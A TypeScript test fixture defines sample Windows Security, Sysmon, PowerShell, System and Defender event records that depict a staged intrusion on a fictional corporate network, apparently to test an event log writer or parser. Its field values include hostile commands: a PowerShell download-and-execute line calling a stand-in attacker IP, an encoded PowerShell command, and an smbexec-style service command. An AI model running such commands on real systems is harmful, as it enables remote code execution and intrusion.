/** A handful of Windows events, as the event log holds them. */
import {
  boolean,
  fileTime,
  guid,
  hex32,
  hex64,
  sid,
  text,
  uint16,
  uint32,
} from "../src/evtx/evtx-writer.fixture.ts";
import type { Typed } from "../src/evtx/evtx-writer.fixture.ts";

/** A value as the event log holds it, and as Windows writes it out. */
interface Datum {
  readonly name: string;
  readonly typed: Typed;
  readonly written: string;
}

export interface ToldEvent {
  readonly title: string;
  readonly provider: string;
  readonly providerGuid: string;
  readonly eventId: number;
  readonly version: number;
  readonly level: number;
  readonly levelName: string;
  readonly task: number;
  readonly taskName: string;
  readonly keywords: bigint;
  readonly keyword: string;
  readonly time: string;
  readonly recordId: number;
  readonly pid: number;
  readonly tid: number;
  readonly channel: string;
  readonly computer: string;
  readonly userSid?: string;
  readonly data: readonly Datum[];
  /** The element that wraps the data, where they are no EventData. */
  readonly wrapper?: { readonly name: string; readonly namespace: string };
}

const string = (name: string, written: string): Datum => ({ name, typed: text(written), written });
const number = (name: string, value: number): Datum => ({
  name,
  typed: uint32(value),
  written: String(value),
});
const small = (name: string, value: number): Datum => ({
  name,
  typed: uint16(value),
  written: String(value),
});
const hex = (name: string, value: bigint): Datum => ({
  name,
  typed: hex64(value),
  written: `0x${value.toString(16)}`,
});
const status = (name: string, value: number): Datum => ({
  name,
  typed: hex32(value),
  written: `0x${value.toString(16)}`,
});
const account = (name: string, written: string): Datum => ({ name, typed: sid(written), written });
const id = (name: string, written: string): Datum => ({ name, typed: guid(written), written });
const flag = (name: string, value: boolean): Datum => ({
  name,
  typed: boolean(value),
  written: String(value),
});
const moment = (name: string, written: string): Datum => ({ name, typed: fileTime(written), written });

const SUCCESS = {
  level: 0,
  levelName: "Information",
  keywords: 0x8020000000000000n,
  keyword: "Audit Success",
} as const;
const FAILURE = {
  level: 0,
  levelName: "Information",
  keywords: 0x8010000000000000n,
  keyword: "Audit Failure",
} as const;
const PLAIN = { level: 4, levelName: "Information", keywords: 0x8000000000000000n, keyword: "" } as const;
const SECURITY = {
  provider: "Microsoft-Windows-Security-Auditing",
  providerGuid: "{54849625-5478-4994-a5ba-3e3b0328c30d}",
  pid: 716,
  tid: 760,
  channel: "Security",
  computer: "FS01.corp.example.com",
} as const;
const SYSMON = {
  ...PLAIN,
  provider: "Microsoft-Windows-Sysmon",
  providerGuid: "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}",
  pid: 2840,
  tid: 3120,
  channel: "Microsoft-Windows-Sysmon/Operational",
  computer: "WS07.corp.example.com",
  userSid: "S-1-5-18",
} as const;
export const ANNA = "S-1-5-21-1004336348-1177238915-682003330-1604";
const SHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
const SHELL_GUID = "{6a3f2c11-8b1e-699f-0101-000000002a00}";
const ENCODED = "powershell.exe -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA=";

export const EVENTS: readonly ToldEvent[] = [
  {
    ...SECURITY,
    ...SUCCESS,
    title: "Security 4624, a logon",
    eventId: 4624,
    version: 2,
    task: 12544,
    taskName: "Logon",
    time: "2026-02-28T09:14:41.123Z",
    recordId: 41201,
    data: [
      account("SubjectUserSid", "S-1-5-18"),
      string("SubjectUserName", "FS01$"),
      string("SubjectDomainName", "CORP"),
      hex("SubjectLogonId", 0x3e7n),
      account("TargetUserSid", ANNA),
      string("TargetUserName", "anna"),
      string("TargetDomainName", "CORP"),
      hex("TargetLogonId", 0x5a4175en),
      number("LogonType", 10),
      string("LogonProcessName", "User32 "),
      string("AuthenticationPackageName", "Negotiate"),
      string("WorkstationName", "FS01"),
      id("LogonGuid", "{00000000-0000-0000-0000-000000000000}"),
      string("TransmittedServices", "-"),
      string("LmPackageName", "-"),
      number("KeyLength", 0),
      hex("ProcessId", 0x3f8n),
      string("ProcessName", "C:\\Windows\\System32\\svchost.exe"),
      string("IpAddress", "198.51.100.23"),
      string("IpPort", "0"),
      string("ImpersonationLevel", "%%1833"),
      string("ElevatedToken", "%%1842"),
    ],
  },
  {
    ...SECURITY,
    ...FAILURE,
    title: "Security 4625, a failed logon",
    eventId: 4625,
    version: 0,
    task: 12544,
    taskName: "Logon",
    time: "2026-02-28T09:14:42.500Z",
    recordId: 41202,
    data: [
      account("SubjectUserSid", "S-1-0-0"),
      string("SubjectUserName", "-"),
      string("SubjectDomainName", "-"),
      hex("SubjectLogonId", 0n),
      account("TargetUserSid", "S-1-0-0"),
      string("TargetUserName", "administrator"),
      string("TargetDomainName", ""),
      status("Status", 0xc000006d),
      string("FailureReason", "%%2313"),
      status("SubStatus", 0xc000006a),
      number("LogonType", 3),
      string("LogonProcessName", "NtLmSsp "),
      string("AuthenticationPackageName", "NTLM"),
      string("WorkstationName", "KALI"),
      string("TransmittedServices", "-"),
      string("LmPackageName", "-"),
      number("KeyLength", 0),
      hex("ProcessId", 0n),
      string("ProcessName", "-"),
      string("IpAddress", "203.0.113.9"),
      string("IpPort", "51812"),
    ],
  },
  {
    ...SECURITY,
    ...SUCCESS,
    title: "Security 4688, a process",
    eventId: 4688,
    version: 2,
    task: 13312,
    taskName: "Process Creation",
    time: "2026-02-28T09:14:46.001Z",
    recordId: 41206,
    data: [
      account("SubjectUserSid", ANNA),
      string("SubjectUserName", "anna"),
      string("SubjectDomainName", "CORP"),
      hex("SubjectLogonId", 0x5a4175en),
      hex("NewProcessId", 0x1a2cn),
      string("NewProcessName", SHELL),
      string("TokenElevationType", "%%1936"),
      hex("ProcessId", 0xf10n),
      string("CommandLine", ENCODED),
      account("TargetUserSid", "S-1-0-0"),
      string("TargetUserName", "-"),
      string("TargetDomainName", "-"),
      hex("TargetLogonId", 0n),
      string("ParentProcessName", "C:\\Windows\\System32\\cmd.exe"),
      account("MandatoryLabel", "S-1-16-12288"),
    ],
  },
  {
    ...SECURITY,
    level: 4,
    levelName: "Information",
    keywords: 0x4020000000000000n,
    keyword: "Audit Success",
    provider: "Microsoft-Windows-Eventlog",
    providerGuid: "{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}",
    title: "Security 1102, the log cleared",
    eventId: 1102,
    version: 0,
    task: 104,
    taskName: "Log clear",
    time: "2026-02-28T09:15:02.123Z",
    recordId: 41222,
    wrapper: {
      name: "LogFileCleared",
      namespace: "http://manifests.microsoft.com/win/2004/08/windows/eventlog",
    },
    data: [
      account("SubjectUserSid", ANNA),
      string("SubjectUserName", "anna"),
      string("SubjectDomainName", "CORP"),
      hex("SubjectLogonId", 0x5a4175en),
    ],
  },
  {
    ...SYSMON,
    title: "Sysmon 1, a process",
    eventId: 1,
    version: 5,
    task: 1,
    taskName: "Process Create (rule: ProcessCreate)",
    time: "2026-02-28T09:15:03.110Z",
    recordId: 901,
    data: [
      string("RuleName", "-"),
      string("UtcTime", "2026-02-28 09:15:03.102"),
      id("ProcessGuid", SHELL_GUID),
      number("ProcessId", 5560),
      string("Image", SHELL),
      string("FileVersion", "10.0.20348.1 (WinBuild.160101.0800)"),
      string("Description", "Windows PowerShell"),
      string("Product", "Microsoft® Windows® Operating System"),
      string("Company", "Microsoft Corporation"),
      string("OriginalFileName", "PowerShell.EXE"),
      string("CommandLine", ENCODED),
      string("CurrentDirectory", "C:\\Users\\anna\\"),
      string("User", "CORP\\anna"),
      id("LogonGuid", "{6a3f2c11-8b1e-699f-0001-000000002a00}"),
      hex("LogonId", 0x3e7a1n),
      number("TerminalSessionId", 2),
      string("IntegrityLevel", "Medium"),
      string(
        "Hashes",
        "MD5=0123456789ABCDEF0123456789ABCDEF,SHA256=00112233445566778899AABBCCDDEEFF00112233445566778899AABBCCDDEEFF,IMPHASH=FEDCBA9876543210FEDCBA9876543210",
      ),
      id("ParentProcessGuid", "{6a3f2c11-8b1e-699f-0100-000000002a00}"),
      number("ParentProcessId", 4312),
      string("ParentImage", "C:\\Program Files\\Office\\WINWORD.EXE"),
      string(
        "ParentCommandLine",
        '"C:\\Program Files\\Office\\WINWORD.EXE" "C:\\Users\\anna\\Invoice <1> & more.docm"',
      ),
      string("ParentUser", "CORP\\anna"),
    ],
  },
  {
    ...SYSMON,
    title: "Sysmon 3, a connection",
    eventId: 3,
    version: 5,
    task: 3,
    taskName: "Network connection detected (rule: NetworkConnect)",
    time: "2026-02-28T09:15:05.220Z",
    recordId: 902,
    data: [
      string("RuleName", "Outbound"),
      string("UtcTime", "2026-02-28 09:15:04.871"),
      id("ProcessGuid", SHELL_GUID),
      number("ProcessId", 5560),
      string("Image", SHELL),
      string("User", "CORP\\anna"),
      string("Protocol", "tcp"),
      flag("Initiated", true),
      flag("SourceIsIpv6", false),
      string("SourceIp", "192.0.2.44"),
      string("SourceHostname", "WS07.corp.example.com"),
      small("SourcePort", 50122),
      string("SourcePortName", "-"),
      flag("DestinationIsIpv6", false),
      string("DestinationIp", "198.51.100.77"),
      string("DestinationHostname", "-"),
      small("DestinationPort", 4444),
      string("DestinationPortName", "-"),
    ],
  },
  {
    ...SYSMON,
    title: "Sysmon 11, a file",
    eventId: 11,
    version: 2,
    task: 11,
    taskName: "File created (rule: FileCreate)",
    time: "2026-02-28T09:15:06.330Z",
    recordId: 903,
    data: [
      string("RuleName", "-"),
      string("UtcTime", "2026-02-28 09:15:06.301"),
      id("ProcessGuid", SHELL_GUID),
      number("ProcessId", 5560),
      string("Image", SHELL),
      string(
        "TargetFilename",
        "C:\\Users\\anna\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\up.ps1",
      ),
      string("CreationUtcTime", "2026-02-28 09:15:06.301"),
      string("User", "CORP\\anna"),
    ],
  },
  {
    ...SYSMON,
    title: "Sysmon 13, a value of the registry",
    eventId: 13,
    version: 2,
    task: 13,
    taskName: "Registry value set (rule: RegistryEvent)",
    time: "2026-02-28T09:15:07.440Z",
    recordId: 904,
    data: [
      string("RuleName", "-"),
      string("EventType", "SetValue"),
      string("UtcTime", "2026-02-28 09:15:07.409"),
      id("ProcessGuid", SHELL_GUID),
      number("ProcessId", 5560),
      string("Image", SHELL),
      string("TargetObject", "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Up"),
      string("Details", "C:\\Users\\Public\\up.exe"),
      string("User", "CORP\\anna"),
    ],
  },
  {
    ...PLAIN,
    title: "PowerShell 4104, a script",
    provider: "Microsoft-Windows-PowerShell",
    providerGuid: "{a0c1853b-5c40-4b15-8766-3cf1c58f985a}",
    eventId: 4104,
    version: 1,
    level: 3,
    levelName: "Warning",
    task: 2,
    taskName: "Execute a Remote Command",
    time: "2026-02-28T09:15:08.550Z",
    recordId: 7_001,
    pid: 5560,
    tid: 5612,
    channel: "Microsoft-Windows-PowerShell/Operational",
    computer: "WS07.corp.example.com",
    userSid: ANNA,
    data: [
      number("MessageNumber", 1),
      number("MessageTotal", 1),
      string(
        "ScriptBlockText",
        '$c = "a<b> & c"\r\nInvoke-Expression (New-Object Net.WebClient).DownloadString("http://198.51.100.77/x")',
      ),
      string("ScriptBlockId", "5f7b8c2e-1d0a-4b7e-9a55-6a4d2f3c1b0e"),
      string("Path", ""),
    ],
  },
  {
    ...PLAIN,
    title: "System 7045, a service",
    provider: "Service Control Manager",
    providerGuid: "{555908d1-a6d7-4695-8e1e-26931d2012f4}",
    eventId: 7045,
    version: 0,
    keywords: 0x8080000000000000n,
    keyword: "Classic",
    task: 0,
    taskName: "None",
    time: "2026-02-28T09:15:09.660Z",
    recordId: 8_801,
    pid: 684,
    tid: 4020,
    channel: "System",
    computer: "FS01.corp.example.com",
    userSid: "S-1-5-18",
    data: [
      string("ServiceName", "Updater"),
      string("ImagePath", "%COMSPEC% /Q /c echo cd > \\\\127.0.0.1\\C$\\__output 2>&1"),
      string("ServiceType", "user mode service"),
      string("StartType", "demand start"),
      string("AccountName", "LocalSystem"),
    ],
  },
  {
    ...PLAIN,
    title: "Defender 1116, malware found",
    provider: "Microsoft-Windows-Windows Defender",
    providerGuid: "{11cd958a-c507-4ef3-b3f2-5fd9dfbd2c78}",
    eventId: 1116,
    version: 0,
    level: 3,
    levelName: "Warning",
    task: 0,
    taskName: "None",
    time: "2026-02-28T09:15:10.770Z",
    recordId: 3_301,
    pid: 2600,
    tid: 3500,
    channel: "Microsoft-Windows-Windows Defender/Operational",
    computer: "WS07.corp.example.com",
    userSid: "S-1-5-18",
    data: [
      string("Product Name", "Microsoft Defender Antivirus"),
      string("Product Version", "4.18.26010.5"),
      moment("Detection Time", "2026-02-28T09:15:10.6060000Z"),
      string("Threat ID", "2147519003"),
      string("Threat Name", "Virus:DOS/EICAR_Test_File"),
      string("Severity ID", "5"),
      string("Severity Name", "Severe"),
      string("Category Name", "Virus"),
      string("Detection User", "CORP\\anna"),
      string("Process Name", "C:\\Windows\\explorer.exe"),
      string("Path", "file:_C:\\Users\\anna\\Downloads\\eicar.com"),
    ],
  },
];
